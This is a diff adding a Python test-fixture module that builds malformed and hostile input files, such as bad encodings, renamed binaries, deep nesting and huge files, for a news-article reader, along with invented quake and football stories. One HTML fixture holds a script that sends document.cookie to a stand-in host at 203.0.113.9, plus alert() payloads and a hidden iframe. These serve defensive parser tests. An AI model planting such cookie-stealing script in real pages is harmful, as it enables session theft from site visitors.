@@ -1,0 +1,228 @@
+"""A corpus of hostile inputs, generated into a folder at test time (never committed: some are huge).
+
+Each case is a file a journalist might really drop on the window, with what
+Parallax may answer: ``"error"`` (a one-line refusal), ``"ok"`` (an article), or
+``"either"`` (both are honest answers, as long as neither is a traceback).
+
+The good stories are invented events (an earthquake in the fictional town of
+Verano, a football transfer): nothing here comes from the demo.
+"""
+
+from __future__ import annotations
+
+import os
+import random
+from collections.abc import Callable
+from dataclasses import dataclass
+from pathlib import Path
+
+QUAKE_A = """Earthquake shakes Verano before dawn
+
+A magnitude 6.1 earthquake struck the coastal town of Verano before dawn on Sunday, the national seismic agency said.
+
+At least 14 people were killed and more than 200 were injured, according to the regional health office.
+
+Mayor Lucia Ferrand said rescue teams were searching three collapsed apartment blocks in the old quarter.
+
+The agency said the quake was centred 12 kilometres offshore at a depth of 10 kilometres.
+
+Schools in the province will stay closed until Wednesday while engineers inspect the buildings.
+"""
+
+QUAKE_B = """Deadly quake hits Verano
+
+An earthquake of magnitude 6.3 hit Verano early on Sunday, killing at least 17 people, officials said.
+
+Around 250 people were hurt, the regional health office said in a statement.
+
+Mayor Lucía Ferrand told reporters that rescuers were digging through three apartment blocks that had collapsed.
+
+The quake's epicentre lay about 12 kilometres off the coast, the seismic agency said.
+
+Engineers are inspecting schools, which will remain shut until Wednesday.
+"""
+
+TRANSFER = """Striker completes record move to Porto Azul
+
+Midfield playmaker Andre Kowalczyk has joined Porto Azul for a club record fee of 48 million euros.
+
+The 24-year-old signed a five-year contract at the club's training ground on Thursday afternoon.
+
+Coach Marta Ilves said the signing would strengthen the squad for the continental cup campaign.
+
+Supporters gathered outside the stadium shop to buy the new number nine shirt.
+"""
+
+NOT_HTML_BODY = bytes(range(256)) * 64
+
+_HOSTILE_HTML = """<!DOCTYPE html><html><head><title>Quake damage assessed | Coastal Post</title>
+<script>document.write('<p>Injected by a script: this must never become article text.</p>'); alert(1)</script>
+<style>p { color: red }</style></head><body>
+<iframe src="http://203.0.113.9/tracker.html" width="1" height="1"></iframe>
+<article><h1>Quake damage assessed</h1>
+<img src="http://203.0.113.9/pixel.png" onerror="alert('x')" alt="">
+<p>Engineers in Verano began assessing damage on Monday after Sunday's earthquake destroyed three apartment blocks.</p>
+<p>The regional government said at least 400 homes would need repairs before families could move back in.</p>
+<script>fetch('http://203.0.113.9/steal?c=' + document.cookie)</script>
+<p>Officials said temporary shelters had been set up in two sports halls near the harbour for displaced residents.</p>
+</article></body></html>"""
+
+_NAV_ONLY = (
+    "<!DOCTYPE html><html><head><title>Coastal Post</title></head><body><nav><ul>"
+    + "".join(f'<li><a href="/section/{i}">Section {i}</a></li>' for i in range(150))
+    + "</ul></nav><footer><a href='/about'>About us</a> <a href='/privacy'>Privacy</a></footer></body></html>"
+)
+
+_ARABIC = """<!DOCTYPE html><html lang="ar" dir="rtl"><head><meta charset="utf-8">
+<title>زلزال يضرب مدينة ساحلية</title></head>
+<body><article><h1>زلزال يضرب مدينة ساحلية</h1>
+<p>ضرب زلزال بقوة ست درجات مدينة ساحلية فجر يوم الأحد، وفق ما أعلنت الوكالة الوطنية لرصد الزلازل.</p>
+<p>وقال مسؤولون في مكتب الصحة الإقليمي إن ما لا يقل عن ٣٠٠ شخص أصيبوا بجروح، ونقل كثيرون منهم إلى المستشفيات.</p>
+<p>وأضاف رئيس البلدية أن فرق الإنقاذ تواصل البحث في ثلاثة مبان سكنية انهارت في الحي القديم من المدينة.</p>
+</article></body></html>"""
+
+_NUMBERS = """Quake energy figures published
+
+The agency put the energy released at 1e308 joules in one draft table and 1e309 joules in another.
+
+About ٣٠٠ families fled the coast overnight, and the ministry counted ۴۵ aftershocks by noon on Monday.
+
+A spreadsheet error listed the damage at 9""" + "9" * 400 + """ euros before it was corrected.
+
+Officials said 0.000000000000000000001 percent of the budget had been spent so far.
+"""
+
+_ONE_WORD = QUAKE_A.rstrip() + "\n\nYes.\n\nNo.\n\nAftershocks. Sirens. Silence.\n"
+
+
+def _binary() -> bytes:
+    rng = random.Random(5)
+    return bytes(rng.randrange(256) for _ in range(20_000))
+
+
+def _mixed_encoding() -> bytes:
+    # A file pasted together from two sources: UTF-8 paragraphs and a Windows-1252 one.
+    first, _, rest = QUAKE_A.partition("\n\n")
+    return (
+        first.encode("utf-8")
+        + b"\n\n"
+        + "Café owners near the harbour said the shaking lasted about 20 seconds, police said.\n\n".encode("cp1252")
+        + rest.replace("Mayor", "Mayor São").encode("utf-8")
+    )
+
+
+def _invalid_utf8() -> bytes:
+    # Bytes undefined in UTF-8 *and* in Windows-1252 (0x81, 0x8d, 0x8f, 0x90, 0x9d) sprinkled through prose.
+    data = bytearray(QUAKE_A.encode("utf-8"))
+    for i, bad in zip(range(200, len(data), 97), b"\x81\x8d\x8f\x90\x9d\xc3\xff" * 10, strict=False):
+        data[i] = bad
+    return bytes(data)
+
+
+def _nested(depth: int = 5000) -> str:
+    para = (
+        "<p>The earthquake struck the coastal town of Verano shortly before dawn on Sunday, "
+        "the national seismic agency said.</p>"
+    )
+    return "<!DOCTYPE html><html><body>" + "<div>" * depth + para + "</div>" * depth + "</body></html>"
+
+
+def _one_word_changed() -> str:
+    return QUAKE_A.replace("three collapsed apartment blocks", "four collapsed apartment blocks")
+
+
+@dataclass(frozen=True)
+class Case:
+    name: str  # the file name, suffix included
+    expect: str  # "error", "ok" or "either"
+    make: Callable[[], bytes | str]
+    big: bool = False  # tens of MB: built only by tests marked slow
+
+
+CASES: tuple[Case, ...] = (
+    Case("empty.txt", "error", lambda: b""),
+    Case("whitespace-only.txt", "error", lambda: b" \n\t\n   \r\n\xc2\xa0 \n"),
+    Case("binary.txt", "error", _binary),
+    Case("pdf-renamed.txt", "error", lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\n" * 300),
+    Case("zip-renamed.html", "error", lambda: b"PK\x03\x04" + bytes(2000)),
+    Case("invalid-utf8.txt", "ok", _invalid_utf8),
+    Case("mixed-encoding.txt", "ok", _mixed_encoding),
+    Case("utf16-no-bom.txt", "ok", lambda: QUAKE_B.encode("utf-16-le")),
+    Case("scripts-iframes-images.html", "ok", lambda: _HOSTILE_HTML),
+    Case("navigation-only.html", "error", lambda: _NAV_ONLY),
+    Case("nested-5000.html", "either", _nested),
+    Case("arabic.html", "ok", lambda: _ARABIC),
+    Case("numbers.txt", "ok", lambda: _NUMBERS),
+    Case("one-word-sentences.txt", "ok", lambda: _ONE_WORD),
+    Case("only-one-word-sentences.txt", "either", lambda: "Aftershocks\n\nYes. No. Sirens. Silence. Rubble.\n"),
+    Case("nul-in-the-middle.txt", "either", lambda: QUAKE_A.encode() + b"\x00" * 40 + QUAKE_B.encode()),
+    Case("one-2mb-line.txt", "either", lambda: "The dam held and engineers said the water was falling " * 38_000),
+    Case(
+        "one-2mb-line-of-sentences.txt", "either", lambda: "The dam held. Engineers said the water fell. " * 46_000,
+        big=True,
+    ),
+    Case("50mb.txt", "error", lambda: b"", big=True),  # written by ``write_case`` without holding 50 MB twice
+)
+
+
+def case(name: str) -> Case:
+    return next(c for c in CASES if c.name == name)
+
+
+def _write_50mb(path: Path) -> None:
+    paragraph = (QUAKE_A.split("\n\n")[1] + "\n\n").encode("utf-8")
+    block = paragraph * (1_000_000 // len(paragraph) + 1)
+    with path.open("wb") as fh:
+        while fh.tell() < 50_000_000:
+            fh.write(block)
+
+
+def write_case(folder: Path, c: Case) -> Path:
+    path = folder / c.name
+    if c.name == "50mb.txt":
+        _write_50mb(path)
+        return path
+    data = c.make()
+    path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
+    return path
+
+
+def write_stories(folder: Path) -> dict[str, Path]:
+    """The good material: two reports of one quake, the same report twice, one word changed, an unrelated story."""
+    texts = {
+        "quake-post.txt": QUAKE_A,
+        "quake-wire.txt": QUAKE_B,
+        "quake-post-copy.txt": QUAKE_A,
+        "quake-post-one-word.txt": _one_word_changed(),
+        "transfer.txt": TRANSFER,
+    }
+    folder.mkdir(parents=True, exist_ok=True)
+    out = {}
+    for name, text in texts.items():
+        (folder / name).write_text(text, encoding="utf-8")
+        out[name] = folder / name
+    return out
+
+
+def snapshot(paths: list[Path]) -> dict[str, tuple[int, int, bytes]]:
+    """Size, mtime and a sample of each input, to prove nothing the user gave was altered."""
+    out = {}
+    for p in paths:
+        st = os.stat(p)
+        with open(p, "rb") as fh:
+            out[str(p)] = (st.st_size, st.st_mtime_ns, fh.read(4096))
+    return out
+
+
+# The command line, exactly as a user runs it, except that the sentence model is the deterministic
+# fake (tests/fakes.py): hostile input must be answered before or without the model.
+CLI_SHIM = """
+import sys
+sys.path[:0] = [sys.argv[1], sys.argv[2]]
+import reader.embed
+from fakes import FakeEmbedder
+reader.embed.default_embedder = FakeEmbedder
+reader.embed.load_model_embedder = FakeEmbedder
+from reader.cli import main
+sys.exit(main(sys.argv[3:]))
+"""
